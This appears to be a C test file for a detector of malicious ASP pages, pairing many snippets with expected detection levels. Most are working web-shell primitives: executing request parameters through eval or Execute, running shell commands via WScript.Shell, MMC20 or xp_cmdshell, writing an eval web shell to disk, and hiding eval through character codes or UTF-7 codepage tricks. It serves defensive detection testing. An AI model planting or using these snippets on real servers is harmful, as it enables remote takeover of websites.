/* Pages in the old language: what a few lines say as a whole, and ways that only they have. */
#include "asp_t.h"

#define FSO "<% Set f = CreateObject(\"Scripting.FileSystemObject\")\n"

/* A few lines that ask the request and run a text that is not followed. */
static void a_few_lines_that_run_a_text(void)
{
    CHECK(
        ASP("<% Execute \"If 1 Then \" & Request(\"a\") %>", LIKELY),
        ASP("<% Set r = New RegExp\nr.Pattern = \".*\"\nSet m = r.Execute(Request(\"a\"))\n"
            "Execute m(0).Value %>",
            LIKELY),
        ASP("<% Execute Request.ServerVariables(\"HTTP_REFERER\") %>", LIKELY),
        ASP("<%@ language=jscript %><% var a = [eval, Request]; a[0](a[1](\"k\") + \"\") %>",
            LIKELY),
        ASP("<%@ language=jscript %><% String.prototype.go = function () { return eval(this + "
            "\"\") }; (Request(\"k\") + \"\").go() %>",
            LIKELY),
        ASP("<% Set s = CreateObject(\"ScriptControl\")\ns.Language = \"JScript\"\ns.AddCode "
            "\"function f(x) { return eval(x) }\"\ns.Run \"f\", Request(\"a\") %>",
            LIKELY),
        /* nothing is asked */
        ASP("<% Set r = New RegExp\nr.Pattern = \".*\"\nSet m = r.Execute(page)\n"
            "Execute m(0).Value %>",
            WEAK),
        /* a value, not statements */
        ASP("<% n = Len(Request(\"a\"))\nExecute \"size = \" & n %>", WEAK),
        /* of an application's database, or one of its files */
        ASP("<% Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"dsn=a\"\nSet r = "
            "c.Execute(\"select t from p where n=\" & CLng(Request(\"n\")))\nExecute r(0) %>",
            WEAK),
        ASP("<!--#include file=\"a.inc\"--><% Execute part(Request(\"a\")) %>", CERTAIN),
        ASP("<!--#include file=\"a.inc\"--><% x = Request(\"a\")\nExecute part(1) %>", WEAK));
}

static void files(void)
{
    CHECK(
        ASP(FSO "Set t = f.CreateTextFile(Request(\"p\"))\nt.Write \"x\" %>", LIKELY),
        ASP(FSO "Set t = f.CreateTextFile(\"c:\\data\\\" & Request(\"p\"))\nt.Write \"x\" %>",
            WEAK),
        ASP(FSO "For Each x In f.GetFolder(Server.MapPath(\"/\")).Files\nSet t = "
                "f.OpenTextFile(x.Path, 8)\nt.Write Request(\"c\")\nNext %>",
            LIKELY),
        ASP(FSO "For Each x In f.GetFolder(Server.MapPath(\"/\")).Files\nResponse.Write x\n"
                "Next\nSet t = f.OpenTextFile(Server.MapPath(\"a.txt\"), 8)\nt.Write "
                "Request(\"c\") %>",
            WEAK),
        ASP(FSO "f.CopyFile Server.MapPath(\"a.jpg\"), Server.MapPath(\"a.asp\") %>", LIKELY),
        ASP(FSO "f.CopyFile Server.MapPath(\"a.jpg\"), Server.MapPath(\"b.jpg\") %>", WEAK),
        ASP(FSO "Set g = f.GetFile(Request(\"a\"))\ng.Name = Request(\"b\")\n"
                "For Each x In f.GetFolder(Request(\"d\")).Files\nNext %>",
            LIKELY),
        ASP("<% Set s = CreateObject(\"ADODB.Stream\")\ns.Open\nSet f = "
            "CreateObject(\"Scripting.FileSystemObject\")\nSet c = "
            "CreateObject(\"ADODB.Connection\")\nc.Open \"dsn=a\"\nFor Each x In "
            "f.GetFolder(\"c:\\a\").Files\ns.LoadFromFile x.Path\nNext %>",
            LIKELY),
        ASP("<% Set s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.LoadFromFile "
            "Server.MapPath(\"a.pdf\")\nSet c = CreateObject(\"ADODB.Connection\")\nc.Open "
            "\"dsn=a\" %>",
            WEAK),
        ASP(FSO "Set t = f.CreateTextFile(Server.MapPath(\"/a/log.asp\"))\nt.Write \"<\" & "
                "\"%\"\nt.Write \"eval request(\"\"k\"\")\"\nt.Write \"%\" & \">\" %>",
            LIKELY),
        ASP(FSO "Set t = f.CreateTextFile(Server.MapPath(\"/a/log.asp\"))\nt.Write \"<\" & "
                "\"%\"\nt.Write \"title = 1\"\nt.Write \"%\" & \">\" %>",
            WEAK),
        ASP(FSO "Set t = f.CreateTextFile(Server.MapPath(\"a.asp;1.jpg\"))\nt.Write "
                "Request(\"c\") %>",
            LIKELY),
        ASP(FSO "Set t = f.CreateTextFile(Server.MapPath(\"a-asp;1.jpg\"))\nt.Write "
                "Request(\"c\") %>",
            WEAK),
        ASP(FSO "Set t = f.CreateTextFile(Server.MapPath(\".\") & \"\\\" & Request(\"p\") & "
                "\".\" & \"asp\")\nt.Write Request(\"c\") %>",
            LIKELY),
        ASP(FSO "Set t = f.CreateTextFile(Server.MapPath(\".\") & \"\\\" & Request(\"p\") & "
                "\".\" & \"txt\")\nt.Write Request(\"c\") %>",
            WEAK),
        ASP(FSO "p = Server.MapPath(Request(\"d\"))\nFor Each x In "
                "f.GetFolder(p).Files\nNext\nf.DeleteFile p & \"\\\" & Request(\"x\") %>",
            LIKELY),
        ASP(FSO "p = Server.MapPath(\"img/\" & Request(\"d\"))\nFor Each x In "
                "f.GetFolder(p).Files\nNext\nf.DeleteFile p & \"\\\" & Request(\"x\") %>",
            WEAK),
        ASP("<% Set u = CreateObject(\"Persits.Upload.1\")\nu.Save Request(\"p\") %>", LIKELY),
        ASP("<% Set u = CreateObject(\"Persits.Upload.1\")\nu.Save \"c:\\up\" %>", WEAK));
}

static void programs(void)
{
    CHECK(
        ASP("<% Set m = CreateObject(\"MMC20.Application\")\n"
            "m.Document.ActiveView.ExecuteShellCommand \"cmd.exe\", Null, \"/c \" & "
            "Request(\"c\"), \"7\" %>",
            CERTAIN),
        ASP("<% Set x = CreateObject(\"Excel.Application\")\nx.ExecuteExcel4Macro \"EXEC(\" & "
            "Request(\"a\") & \")\" %>",
            LIKELY),
        ASP("<% Set x = CreateObject(\"Excel.Application\")\nx.ExecuteExcel4Macro \"SUM(1)\" "
            "%>",
            WEAK),
        ASP("<% Set w = CreateObject(n)\nw.Run Request(\"c\"), 0, True %>", CERTAIN),
        ASP("<!--#include file=\"a.inc\"--><% Set w = CreateObject(n)\nw.Run Request(\"c\") "
            "%>",
            NONE),
        ASP("<% Set w = CreateObject(n)\nw.Send Request(\"c\") %>", NONE),
        ASP("<% Set s = CreateObject(\"SQLDMO.SQLServer\")\ns.Connect \".\", \"sa\", \"x\"\n"
            "s.ExecuteImmediate \"exec xp_cmdshell '\" & Request(\"c\") & \"'\" %>",
            CERTAIN),
        ASP("<% Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"dsn=a\"\nc.Execute "
            "\"exec msdb..sp_add_jobstep @command='\" & Request(\"c\") & \"'\" %>",
            CERTAIN),
        ASP("<% Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"dsn=a\"\nc.Execute "
            "\"exec shop..add_order @name='\" & Request(\"c\") & \"'\" %>",
            WEAK));
}

static void networks(void)
{
    CHECK(
        ASP("<% Set h = CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", \"http://\" & "
            "Request(\"ip\") & \":\" & Request(\"port\"), False\nh.Send %>",
            LIKELY),
        ASP("<% Set h = CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", "
            "\"http://sms.example/?to=\" & Request(\"to\"), False\nh.Send %>",
            WEAK),
        ASP("<% Set h = CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", \"file:///\" & "
            "Request(\"f\"), False\nh.Send\nResponse.Write h.ResponseText %>",
            LIKELY),
        ASP("<% Set d = CreateObject(\"Microsoft.XMLDOM\")\nd.Load \"http://a.example/x\"\n"
            "Execute d.DocumentElement.Text %>",
            LIKELY),
        ASP("<% Set d = CreateObject(\"Microsoft.XMLDOM\")\nd.Load Server.MapPath(\"x.xml\")\n"
            "Execute d.DocumentElement.Text %>",
            WEAK),
        ASP("<% Set o = GetObject(\"IIS://localhost/w3svc/1/root\")\nResponse.Write "
            "o.AnonymousUserPass %>",
            LIKELY),
        ASP("<% Set o = GetObject(\"IIS://localhost/w3svc/1/root\")\nResponse.Write o.Path %>",
            NONE));
}

static void words_and_comments(void)
{
    CHECK(
        ASP("<%eval_r(Request(\"a\"))%>", CERTAIN),
        ASP("<%Function eval_r(s): eval_r = Len(s): End Function\neval_r(Request(\"a\"))%>",
            NONE),
        ASP("<%@ language=jscript %><%/*@cc_on eval(Request(\"k\") + \"\") @*/%>", CERTAIN),
        ASP("<%@ language=jscript %><%/*@cc_on @if(1) eval(Request(\"k\") + \"\") @end "
            "@*/%>",
            CERTAIN),
        ASP("<%@ language=jscript %><%/* eval(Request(\"k\") + \"\") */%>", NONE),
        ASP("<%@ language=jscript %><%eval(String.fromCharCode(101, 118, 97, 108, 40, 82, 101, "
            "113, 117, 101, 115, 116, 40, 34, 97, 34, 41, 43, 34, 34, 41))%>",
            CERTAIN),
        ASP("<%@ language=jscript %><%new Func\\u0074ion(\"a\", Request(\"a\") + \"\")()%>",
            CERTAIN),
        ASP("<%@ language=jscript %><%var n = [\"W\" + \"Scr\", \"ipt\" + \".Sh\", "
            "\"ell\"].join(\"\"); Server.CreateObject(n).Run(Request(\"k\") + \"\")%>",
            CERTAIN),
        ASP("<%@codepage=65000%><%ex+k-ec+k-ute re+k-quest(\"a\")%>", CERTAIN),
        ASP("<%@codepage=936%><%ex+k-ec+k-ute re+k-quest(\"a\")%>", NONE),
        ASP("<% Sub g(o): o = Request(\"k\"): End Sub\nCall g(x)\nEval(x) %>", CERTAIN));
}

/* Encoded script of which a copy lost two characters: what stands behind them is read. */
static void encoded_script_that_lost_characters(void)
{
    CHECK(ASP("<%@ Language=VBScript.Encode %><%#@~^LgEAAA=="
              "9b:~DWDlVBPa.k1+SP1W;UD@&wMrm\x7f"
              "P',q+@&1W!xOPx~2@&OWDCV,'~2Mkmn~CP^W"
              "!UD@&]\x7f"
              "/aWxk+c\tDbYnPrK4n,WDCV,W0,O4+,WMNnD~rkPEPL~YKYCs@&q0~OKYCV"
              ",x,&\x7f"
              ",K4+x@&I\x7f"
              "dwKxd+c\x7f"
              ".rD+PrC/,Y,AC/,YKV[P8n6W.+r@&2\tN~"
              "(6@&?;8,I;xvA4lO*@&A6+1EDnPStCY@&2U[,?E(@&sKDP\t;h4\x7f"
              "D,'~F~PKP^W!UY"
              "@&IndaWxdnc\x7f"
              ".kDn,Jsbx\x7f"
              "PW6PD4+,W.N\x7f"
              "DE@&g+6D@&I!xP\"n5E\x7f"
              ""
              "/D`E3nzr#@&"
              "AAAAAA==^#~@%>",
              CERTAIN),
          ASP("<%@ Language=VBScript.Encode %><%#@~^LgEAAA=="
              "{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|"
              "{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|{{}~|~}{|}~}|"
              "AAAAAA==^#~@%>",
              NONE));
}

int main(void)
{
    T_RUN(a_few_lines_that_run_a_text);
    T_RUN(files);
    T_RUN(programs);
    T_RUN(networks);
    T_RUN(words_and_comments);
    T_RUN(encoded_script_that_lost_characters);
    return t_done();
}
